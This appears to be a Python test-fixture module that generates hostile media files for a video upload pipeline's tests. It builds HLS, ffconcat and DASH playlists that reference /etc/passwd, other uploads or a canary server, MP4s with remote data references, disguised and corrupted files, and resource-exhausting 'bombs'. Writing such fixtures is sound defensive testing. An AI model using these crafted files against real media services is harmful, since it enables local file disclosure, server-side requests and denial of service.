"""Hostile files, made on the spot: what each is, how it is made, and what must become of it.

`HOSTILE` lists them all. A file is accepted, accepted as partial, or refused with a code of
`videos.media.errors`; where two outcomes are sound, both are listed. In every case no canary hears
of it, no foreign file is read and memory stays in bounds: the tests that use the list hold that.
"""

import random
import struct
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ACCEPT, PARTIAL = "accept", "partial"


@dataclass(frozen=True)
class Surroundings:
    """What a hostile file is made from, and what it tries to reach.

    good    an MP4 of three seconds, its index at the end; front the same with its index first
    secret  another upload, a video without a suffix; canary `host:port` of a listening server
    """

    folder: Path
    ffmpeg: str
    good: Path
    front: Path
    secret: Path
    canary: str

    def run(self, *words: str) -> None:
        subprocess.run(
            [self.ffmpeg, "-v", "error", "-y", *words], check=True, capture_output=True, timeout=120
        )


@dataclass(frozen=True)
class Hostile:
    """One hostile file: `make` writes it to the path given."""

    name: str
    group: str
    expected: frozenset[str]
    make: Callable[[Surroundings, Path], None]
    suffix: str = ".mp4"

    def write(self, around: Surroundings) -> Path:
        """The file's path; made the first time it is asked for."""
        path = around.folder / f"{self.name}{self.suffix}"
        if not path.exists():
            self.make(around, path)
        return path


HOSTILE: list[Hostile] = []
Make = Callable[[Surroundings, Path], None]


def hostile(group: str, *expected: str, suffix: str = ".mp4") -> Callable[[Make], Make]:
    """Enter the function below into the list under its own name."""

    def enter(make: Make) -> Make:
        HOSTILE.append(Hostile(make.__name__, group, frozenset(expected), make, suffix))
        return make

    return enter


def of(*groups: str) -> list[Hostile]:
    """The hostile files of these groups."""
    return [each for each in HOSTILE if each.group in groups]


# References to something else

PLAYLIST = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n"


@hostile("references", "UNSUP")
def playlist_of_a_system_file(around: Surroundings, path: Path) -> None:
    path.write_text(PLAYLIST + "file:///etc/hostname\n")


@hostile("references", "UNSUP")
def playlist_of_an_address(around: Surroundings, path: Path) -> None:
    path.write_text(f"{PLAYLIST}http://{around.canary}/a.ts\n")


@hostile("references", "UNSUP")
def playlist_of_another_upload(around: Surroundings, path: Path) -> None:
    path.write_text(f"{PLAYLIST}file://{around.secret}\n")


@hostile("references", "UNSUP", suffix="")
def playlist_without_a_suffix(around: Surroundings, path: Path) -> None:
    path.write_text(f"{PLAYLIST}file://{around.secret}\n")


@hostile("references", "UNSUP", suffix=".m3u8")
def playlist_called_one(around: Surroundings, path: Path) -> None:
    path.write_text(f"{PLAYLIST}file://{around.secret}\n#EXT-X-ENDLIST\n")


@hostile("references", "UNSUP")
def playlist_with_the_concat_protocol(around: Surroundings, path: Path) -> None:
    path.write_text(f"{PLAYLIST}concat:http://{around.canary}|file:///etc/passwd\n")


@hostile("references", "UNSUP")
def playlist_with_a_remote_key(around: Surroundings, path: Path) -> None:
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="http://{around.canary}/key"\n'
    path.write_text(f"#EXTM3U\n{key}#EXTINF:9,\nfile://{around.secret}\n")


@hostile("references", "UNSUP")
def concat_list_of_a_neighbour(around: Surroundings, path: Path) -> None:
    path.write_text(f"ffconcat version 1.0\nfile {around.secret.name}\n")


@hostile("references", "UNSUP")
def concat_list_of_a_whole_path(around: Surroundings, path: Path) -> None:
    path.write_text(f"ffconcat version 1.0\nfile '{around.secret}'\n")


@hostile("references", "UNSUP")
def dash_manifest(around: Surroundings, path: Path) -> None:
    path.write_text(
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="video/mp4">'
        f"<Representation id='1' bandwidth='1'><BaseURL>http://{around.canary}/a.mp4</BaseURL>"
        "</Representation></AdaptationSet></Period></MPD>"
    )


@hostile("references", "CODEC", suffix=".mov")
def data_reference_to_an_address(around: Surroundings, path: Path) -> None:
    path.write_bytes(mp4(reference=f"http://{around.canary}/a.mp4".encode()))


@hostile("references", ACCEPT, suffix=".mkv")
def matroska_with_an_attachment(around: Surroundings, path: Path) -> None:
    note = around.folder / "note.txt"
    note.write_text("hello")
    around.run(
        "-i", str(around.good), "-attach", str(note), "-metadata:s:t", "mimetype=text/plain",
        "-c", "copy", str(path),
    )  # fmt: skip


# Not what they say they are


def _still(around: Surroundings, path: Path, *words: str) -> None:
    around.run("-f", "lavfi", "-i", "testsrc=s=64x64", "-frames:v", "1", *words, str(path))


@hostile("disguises", "UNSUP")
def jpeg_as_video(around: Surroundings, path: Path) -> None:
    _still(around, path, "-c:v", "mjpeg", "-pix_fmt", "yuvj420p", "-f", "image2")


@hostile("disguises", "UNSUP")
def gif_as_video(around: Surroundings, path: Path) -> None:
    _still(around, path, "-f", "gif")


@hostile("disguises", "UNSUP")
def apng_as_video(around: Surroundings, path: Path) -> None:
    _still(around, path, "-f", "apng")


@hostile("disguises", "UNSUP")
def webp_as_video(around: Surroundings, path: Path) -> None:
    _still(around, path, "-c:v", "libwebp", "-f", "image2")


@hostile("disguises", "UNSUP")
def page_before_a_video(around: Surroundings, path: Path) -> None:
    path.write_bytes(b"<html>" + around.good.read_bytes())


@hostile("disguises", "UNSUP")
def program_before_a_video(around: Surroundings, path: Path) -> None:
    path.write_bytes(b"MZ\x90\0" + around.good.read_bytes())


@hostile("disguises", ACCEPT)
def script_after_a_video(around: Surroundings, path: Path) -> None:
    path.write_bytes(around.good.read_bytes() + b"<script>alert(1)</script>")


@hostile("disguises", "UNSUP")
def zip_archive(around: Surroundings, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a.mp4", around.good.read_bytes())


@hostile("disguises", ACCEPT, suffix=".html")
def video_called_a_page(around: Surroundings, path: Path) -> None:
    path.write_bytes(around.good.read_bytes())


@hostile("disguises", ACCEPT)
def matroska_called_mp4(around: Surroundings, path: Path) -> None:
    around.run("-i", str(around.good), "-c", "copy", "-f", "matroska", str(path))


@hostile("disguises", "NOVIDEO")
def sound_only(around: Surroundings, path: Path) -> None:
    around.run("-f", "lavfi", "-i", "sine=d=2", str(path))


@hostile("disguises", "NOVIDEO")
def cover_picture_only(around: Surroundings, path: Path) -> None:
    around.run(
        "-f", "lavfi", "-i", "sine=d=2", "-f", "lavfi", "-i", "testsrc=s=64x64:d=1",
        "-map", "0", "-map", "1", "-frames:v", "1", "-c:v", "mjpeg", "-pix_fmt", "yuvj420p",
        "-disposition:v", "attached_pic", str(path),
    )  # fmt: skip


# Damage


@hostile("damage", "EMPTY")
def empty(around: Surroundings, path: Path) -> None:
    path.write_bytes(b"")


@hostile("damage", "UNSUP")
def one_byte(around: Surroundings, path: Path) -> None:
    path.write_bytes(b"G")


@hostile("damage", "UNSUP")
def random_bytes(around: Surroundings, path: Path) -> None:
    path.write_bytes(random.Random(7).randbytes(100_000))


@hostile("damage", "CORRUPT")
def first_half_without_its_index(around: Surroundings, path: Path) -> None:
    path.write_bytes(_first_half(around.good))


@hostile("damage", PARTIAL)
def first_half_with_its_index(around: Surroundings, path: Path) -> None:
    path.write_bytes(_first_half(around.front))


@hostile("damage", ACCEPT)
def last_fifty_bytes_missing(around: Surroundings, path: Path) -> None:
    path.write_bytes(around.front.read_bytes()[:-50])


@hostile("damage", ACCEPT, PARTIAL, "CORRUPT")
def one_bit_in_a_hundred_flipped(around: Surroundings, path: Path) -> None:
    chance = random.Random(11)
    content = bytearray(around.front.read_bytes())
    for place in range(8 * 4096, 8 * len(content)):  # the index stays whole
        if chance.random() < 0.01:
            content[place // 8] ^= 1 << place % 8
    path.write_bytes(content)


@hostile("damage", ACCEPT)
def fragmented(around: Surroundings, path: Path) -> None:
    movflags = "frag_keyframe+empty_moov"
    around.run("-i", str(around.good), "-c", "copy", "-movflags", movflags, str(path))


def _first_half(whole: Path) -> bytes:
    content = whole.read_bytes()
    return content[: len(content) * 55 // 100]


# Bombs: small to send, large to look at


@hostile("bombs", "CORRUPT")
def quarter_of_a_billion_samples(around: Surroundings, path: Path) -> None:
    path.write_bytes(mp4(samples=0x0FFFFFFF))


@hostile("bombs", "TRACKS")
def five_thousand_tracks(around: Surroundings, path: Path) -> None:
    path.write_bytes(mp4(tracks=5000))


@hostile("bombs", "CODEC", "SIZE")
def largest_picture_there_is(around: Surroundings, path: Path) -> None:
    path.write_bytes(mp4(width=65535, height=65535))


@hostile("bombs", "CODEC")
def picture_of_no_size(around: Surroundings, path: Path) -> None:
    path.write_bytes(mp4(width=0, height=0))


@hostile("bombs", "SIZE")
def very_wide_picture(around: Surroundings, path: Path) -> None:
    around.run(
        "-f", "lavfi", "-i", "color=s=16384x2304:r=1:d=1", "-c:v", "libx264", "-preset",
        "ultrafast", "-pix_fmt", "yuv420p", "-threads", "1", str(path),
    )  # fmt: skip


@hostile("bombs", ACCEPT, "BUDGET")
def black_in_8k(around: Surroundings, path: Path) -> None:
    around.run(
        "-f", "lavfi", "-i", "color=black:s=7680x4320:r=5:d=1.2", "-c:v", "libx264", "-preset",
        "ultrafast", "-pix_fmt", "yuv420p", "-threads", "1", str(path),
    )  # fmt: skip


@hostile("bombs", "BUDGET")
def thousand_frames_a_second(around: Surroundings, path: Path) -> None:
    around.run(
        "-f", "lavfi", "-i", "color=s=16x16:r=1000:d=31", "-c:v", "mpeg4", "-video_track_timescale",
        "1000", str(path),
    )  # fmt: skip


@hostile("bombs", "DURATION")
def ten_hours_of_one_frame_a_second(around: Surroundings, path: Path) -> None:
    around.run("-f", "lavfi", "-i", "color=s=16x16:r=1:d=36000", "-c:v", "mpeg4", str(path))


@hostile("bombs", "DURATION", suffix=".mkv")
def gap_of_years(around: Surroundings, path: Path) -> None:
    jump = "setpts=PTS+gte(N\\,30)*100000000/TB"
    around.run(
        "-f", "lavfi", "-i", "testsrc=s=64x64:r=25:d=3", "-vf", jump, "-fps_mode", "passthrough",
        "-c:v", "libx264", "-pix_fmt", "yuv420p", str(path),
    )  # fmt: skip


@hostile("bombs", "DURATION", suffix=".mkv")
def gap_of_years_unannounced(around: Surroundings, path: Path) -> None:
    gap_of_years(around, path)
    content = path.read_bytes()
    place = content.index(b"\x44\x89\x88")  # the segment's duration, a double of milliseconds
    path.write_bytes(content[: place + 3] + struct.pack(">d", 3000.0) + content[place + 11 :])


@hostile("bombs", "CODEC", suffix=".avi")
def raw_video(around: Surroundings, path: Path) -> None:
    source = "testsrc=s=64x64:r=25:d=1,format=yuv420p"
    around.run("-f", "lavfi", "-i", source, "-c:v", "rawvideo", str(path))


@hostile("bombs", ACCEPT, suffix=".ts")
def size_changing_midway(around: Surroundings, path: Path) -> None:
    parts = []
    for number, size in enumerate(("160x120", "320x240")):
        part = around.folder / f"part{number}.ts"
        around.run(
            "-f", "lavfi", "-i", f"testsrc=s={size}:r=25:d=2", "-c:v", "libx264", "-pix_fmt",
            "yuv420p", "-output_ts_offset", str(2 * number), str(part),
        )  # fmt: skip
        parts.append(part.read_bytes())
    path.write_bytes(b"".join(parts))


# A handmade MP4: an index that claims things, and no pictures


def box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def mp4(
    *,
    width: int = 320,
    height: int = 240,
    samples: int = 10,
    tracks: int = 1,
    reference: bytes | None = None,
) -> bytes:
    """An MP4 file whose index claims these things (ISO/IEC 14496-12)."""
    header = box(b"mvhd", bytes(12), struct.pack(">II", 1000, 10_000), bytes(80))
    track = _track(width, height, samples, reference)
    return (
        box(b"ftyp", b"isom", bytes(4), b"isommp42")
        + box(b"moov", header, *[track] * tracks)
        + box(b"mdat", random.Random(3).randbytes(64))
    )


def _track(width: int, height: int, samples: int, reference: bytes | None) -> bytes:
    matrix = struct.pack(">9I", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    size = struct.pack(">II", width << 16, height << 16)
    flags = struct.pack(">I", 0 if reference else 1)
    link = box(b"dref", bytes(4), struct.pack(">I", 1), box(b"url ", flags, reference or b""))
    picture = box(
        b"avc1", bytes(6), struct.pack(">H", 1), bytes(16), struct.pack(">HH", width, height),
        struct.pack(">II", 72 << 16, 72 << 16), bytes(4), struct.pack(">H", 1), bytes(32),
        struct.pack(">Hh", 24, -1),
    )  # fmt: skip
    table = box(
        b"stbl",
        box(b"stsd", bytes(4), struct.pack(">I", 1), picture),
        box(b"stts", bytes(4), struct.pack(">III", 1, samples, 40)),
        box(b"stsc", bytes(4), struct.pack(">IIII", 1, 1, samples, 1)),
        box(b"stsz", bytes(4), struct.pack(">II", 6, samples)),
        box(b"stco", bytes(4), struct.pack(">II", 1, 600)),
    )
    handler = box(b"hdlr", bytes(8), b"vide", bytes(12), b"\0")
    media = box(
        b"mdia",
        box(b"mdhd", bytes(12), struct.pack(">II", 1000, 400), bytes(4)),
        handler,
        box(b"minf", box(b"vmhd", bytes(12)), box(b"dinf", link), table),
    )
    head = box(b"tkhd", bytes(12), struct.pack(">II", 1, 0), bytes(28), matrix, size)
    return box(b"trak", head, media)
